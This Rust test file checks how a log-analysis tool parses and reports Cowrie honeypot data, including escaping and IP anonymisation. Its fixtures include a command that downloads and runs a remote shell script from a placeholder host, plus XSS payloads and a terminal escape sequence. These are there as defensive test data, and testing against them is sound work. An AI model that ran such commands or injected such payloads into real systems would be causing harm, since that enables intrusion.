//! A real Cowrie 3.1.4 `cowrie.json` (recorded by
//! `scripts/record-cowrie-fixtures.sh`, see `tests/fixtures/cowrie/README.md`)
//! parsed end to end through the binary, the input detected by its content.

use serde_json::Value;

use crate::util::{fixture, run};

fn parse(all: bool) -> Vec<Value> {
    let path = fixture("cowrie/cowrie.json");
    let mut args = vec!["parse", path.to_str().unwrap()];
    if all {
        args.push("--all");
    }
    let out = run(&args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn cowrie_logins_are_auth_events_of_the_same_contract() {
    let truth = std::fs::read_to_string(fixture("cowrie/ground-truth.jsonl")).unwrap();
    let attempts: u64 = truth
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["attempts"]
                .as_u64()
                .unwrap()
        })
        .sum();
    let evs = parse(false);
    let failed: Vec<&Value> = evs.iter().filter(|e| e["kind"] == "auth_failure").collect();
    let ok: Vec<&Value> = evs.iter().filter(|e| e["kind"] == "auth_success").collect();
    let commands = evs.iter().filter(|e| e["kind"] == "command").count();
    assert_eq!(
        evs.len(),
        failed.len() + ok.len() + commands,
        "only logins and the commands typed after them by default: {evs:?}"
    );
    assert_eq!(failed.len() as u64, attempts);
    assert_eq!(ok.len(), 6);
    for e in failed.iter().chain(&ok) {
        assert_eq!(e["program"], "cowrie", "{e}");
        assert_eq!(e["host"], "vm", "the sensor: {e}");
        assert_eq!(e["method"], "password", "{e}");
        assert!(e["ip"] == "127.0.0.1" || e["ip"] == "::1", "{e}");
        assert!(e["port"].is_u64(), "{e}");
        assert!(
            e["ts"].as_str().unwrap().starts_with("2026-12-04T23:"),
            "{e}"
        );
    }
    // The attacker's name, as sent, with the connection's own address.
    for ip in ["127.0.0.1", "::1"] {
        assert!(ok
            .iter()
            .any(|e| e["user"] == "x from 203.0.113.7 port 22" && e["ip"] == ip));
        assert_eq!(
            failed
                .iter()
                .filter(|e| e["user"] == "root" && e["ip"] == ip)
                .count(),
            3
        );
    }
    let stats = run(&[
        "stats",
        "--json",
        fixture("cowrie/cowrie.json").to_str().unwrap(),
    ]);
    let s: Value = serde_json::from_slice(&stats.stdout).unwrap();
    assert_eq!(s["attempts"], attempts);
    assert_eq!(s["inputs"][0]["malformed"], 0, "{s}");
}

/// Every record is Cowrie's: with `--all` none is skipped or taken for another program.
#[test]
fn cowrie_every_record_is_read() {
    let records = std::fs::read_to_string(fixture("cowrie/cowrie.json"))
        .unwrap()
        .lines()
        .count();
    let evs = parse(true);
    assert_eq!(evs.len(), records);
    assert!(evs
        .iter()
        .all(|e| e["program"] == "cowrie" && e["ip"].is_string()));
}

/// The fixture's records, parsed.
fn records() -> Vec<Value> {
    std::fs::read_to_string(fixture("cowrie/cowrie.json"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// Each login attempt keeps its password, each command its text, exactly as
/// Cowrie logged them, on the event of that record's line.
#[test]
fn cowrie_passwords_and_commands_are_kept_with_their_events() {
    let recs = records();
    let evs = parse(false);
    let commands: Vec<&Value> = evs.iter().filter(|e| e["kind"] == "command").collect();
    assert_eq!(
        commands.len(),
        recs.iter()
            .filter(|r| r["eventid"] == "cowrie.command.input")
            .count()
    );
    for e in &evs {
        let r = &recs[e["src"]["line"].as_u64().unwrap() as usize - 1];
        match e["kind"].as_str().unwrap() {
            "auth_failure" | "auth_success" => {
                assert_eq!(e["password"], r["password"], "{e}");
                assert!(e.get("command").is_none(), "{e}");
            }
            "command" => {
                assert_eq!(e["command"], r["input"], "{e}");
                assert_eq!((&e["ip"], &e["port"]), (&r["src_ip"], &r["src_port"]));
                assert_eq!(e["attempts"], 0, "a command is no attack attempt: {e}");
                assert!(e.get("password").is_none(), "{e}");
            }
            k => panic!("unexpected kind {k}: {e}"),
        }
    }
    assert!(commands
        .iter()
        .any(|e| e["command"] == "cd /tmp; wget http://203.0.113.50/x.sh; sh x.sh"));
}

/// The report's login details: each login shows the passwords tried in its
/// session (the last one the one that got in) and the commands typed after it,
/// in order. The expectation groups the records by Cowrie's own `session` id;
/// sshmap joins them by address and source port: two ways that must agree.
#[test]
fn cowrie_report_shows_each_logins_passwords_and_commands_in_order() {
    let recs = records();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r.html");
    let o = run(&[
        "report",
        fixture("cowrie/cowrie.json").to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let snap = crate::report::snapshot(&std::fs::read_to_string(&out).unwrap());
    let logins = snap["successes"].as_array().unwrap();
    let expected: Vec<&Value> = recs
        .iter()
        .filter(|r| r["eventid"] == "cowrie.login.success")
        .collect();
    assert_eq!(logins.len(), expected.len());
    for ok in expected {
        let session = &ok["session"];
        let of_session = recs.iter().filter(|r| &r["session"] == session);
        let pw: Vec<Value> = of_session
            .clone()
            .filter(|r| {
                r["eventid"] == "cowrie.login.failed" || r["eventid"] == "cowrie.login.success"
            })
            .map(|r| serde_json::json!([r["username"], r["password"]]))
            .collect();
        let cmd: Vec<&Value> = of_session
            .filter(|r| r["eventid"] == "cowrie.command.input")
            .map(|r| &r["input"])
            .collect();
        let login = logins
            .iter()
            .find(|l| l["ip"] == ok["src_ip"] && l["u"] == ok["username"])
            .unwrap_or_else(|| panic!("no login for {ok}"));
        assert_eq!(login["pw"].as_array().unwrap(), &pw, "{login}");
        let shown: Vec<&Value> = login["cmd"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| &c[1])
            .collect();
        assert_eq!(shown, cmd, "{login}");
    }
    // root from each address failed with 123456 then got in with toor in one
    // session; the refused root/root before it was another connection.
    let root = logins
        .iter()
        .find(|l| l["ip"] == "127.0.0.1" && l["u"] == "root")
        .unwrap();
    assert_eq!(
        root["pw"],
        serde_json::json!([["root", "123456"], ["root", "toor"]])
    );
    assert!(
        root["rf"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["p"] == "root"),
        "the address's earlier failures show their passwords: {root}"
    );
}

/// A Cowrie log whose password and command are markup: the page carries them
/// as data (intact in the snapshot) and never as markup.
fn hostile_cowrie(dir: &std::path::Path) -> std::path::PathBuf {
    let lines = [
        r#"{"eventid":"cowrie.login.failed","session":"aa","src_ip":"198.51.100.23","src_port":40000,"username":"root","password":"</script><script>alert(1)</script>","timestamp":"2026-12-04T23:31:50.000000Z","sensor":"vm"}"#,
        r#"{"eventid":"cowrie.login.success","session":"aa","src_ip":"198.51.100.23","src_port":40000,"username":"root","password":"<img src=x onerror=alert(2)>","timestamp":"2026-12-04T23:31:51.000000Z","sensor":"vm"}"#,
        r#"{"eventid":"cowrie.command.input","session":"aa","src_ip":"198.51.100.23","src_port":40000,"input":"echo '</script><svg onload=alert(3)>' \u001b[2J; wget http://203.0.113.50/x","timestamp":"2026-12-04T23:31:52.000000Z","sensor":"vm"}"#,
    ];
    let p = dir.join("cowrie.json");
    std::fs::write(&p, lines.join("\n") + "\n").unwrap();
    p
}

#[test]
fn cowrie_markup_in_passwords_and_commands_is_data_in_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let log = hostile_cowrie(dir.path());
    let out = dir.path().join("r.html");
    let o = run(&["report", log.to_str().unwrap(), "-o", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let html = std::fs::read_to_string(&out).unwrap();
    for bad in [
        "<script>alert",
        "<img src=x",
        "<svg onload",
        "alert(1)</script>",
    ] {
        assert!(!html.contains(bad), "{bad} is markup in the page");
    }
    let snap = crate::report::snapshot(&html);
    let login = &snap["successes"][0];
    assert_eq!(
        login["pw"],
        serde_json::json!([
            ["root", "</script><script>alert(1)</script>"],
            ["root", "<img src=x onerror=alert(2)>"]
        ])
    );
    assert_eq!(
        login["cmd"][0][1],
        "echo '</script><svg onload=alert(3)>' \u{1b}[2J; wget http://203.0.113.50/x"
    );
    // `--anonymize-ip` keeps the passwords and commands (a honeypot's data, no
    // one's secret) and masks every address inside them, as in user names.
    let anon = dir.path().join("a.html");
    let o = run(&[
        "report",
        "--anonymize-ip",
        log.to_str().unwrap(),
        "-o",
        anon.to_str().unwrap(),
    ]);
    assert!(o.status.success());
    let html = std::fs::read_to_string(&anon).unwrap();
    assert!(!html.contains("203.0.113.50") && !html.contains("198.51.100.23"));
    let snap = crate::report::snapshot(&html);
    let login = &snap["successes"][0];
    assert_eq!(login["pw"][1][1], "<img src=x onerror=alert(2)>");
    assert!(
        login["cmd"][0][1]
            .as_str()
            .unwrap()
            .ends_with("wget http://203.0.113.0/24/x"),
        "{login}"
    );
}

/// `parse`'s terminal-facing output carries attacker text as escaped JSON:
/// no raw control character or newline reaches the terminal.
#[test]
fn cowrie_control_characters_in_commands_stay_escaped_in_parse_output() {
    let dir = tempfile::tempdir().unwrap();
    let log = hostile_cowrie(dir.path());
    let o = run(&["parse", log.to_str().unwrap()]);
    assert!(o.status.success());
    assert!(!o.stdout.contains(&0x1b), "raw ESC on the terminal");
    let text = String::from_utf8(o.stdout).unwrap();
    assert_eq!(text.lines().count(), 3);
    assert!(text.contains(r"\u001b[2J"), "{text}");
}

/// The store keeps them: `parse --db` after `ingest` gives the same events as
/// `parse` on the log, passwords and commands included, and `report --db` the
/// same login details.
#[test]
fn cowrie_details_round_trip_through_the_store() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    let log = fixture("cowrie/cowrie.json");
    let o = run(&[
        "ingest",
        "--db",
        db.to_str().unwrap(),
        log.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = run(&["parse", "--db", db.to_str().unwrap()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let from_db: Vec<Value> = String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let from_log = parse(false);
    assert_eq!(from_db.len(), from_log.len());
    assert!(from_db.iter().any(|e| e["kind"] == "command"));
    for (a, b) in from_db.iter().zip(&from_log) {
        for k in ["kind", "user", "password", "command", "ip", "port", "ts"] {
            assert_eq!(a.get(k), b.get(k), "{k}: {a} vs {b}");
        }
    }
    let snap = |args: &[&str]| {
        let out = dir.path().join("r.html");
        let mut v = vec!["report", "-o", out.to_str().unwrap()];
        v.extend_from_slice(args);
        let o = run(&v);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        crate::report::snapshot(&std::fs::read_to_string(&out).unwrap())["successes"].clone()
    };
    assert_eq!(
        snap(&["--db", db.to_str().unwrap()]),
        snap(&[log.to_str().unwrap()])
    );
}

/// sshd's events are untouched by the honeypot fields: no `password` or
/// `command` key on any event of the sample, and no `command` kind.
#[test]
fn sshd_events_carry_no_honeypot_fields() {
    let o = run(&[
        "parse",
        "--all",
        "--year",
        "2026",
        fixture("sample/auth.log").to_str().unwrap(),
    ]);
    assert!(o.status.success());
    let text = String::from_utf8(o.stdout).unwrap();
    assert!(text.lines().count() > 800);
    for l in text.lines() {
        let e: Value = serde_json::from_str(l).unwrap();
        assert!(
            e.get("password").is_none() && e.get("command").is_none(),
            "{e}"
        );
        assert_ne!(e["kind"], "command", "{e}");
    }
}
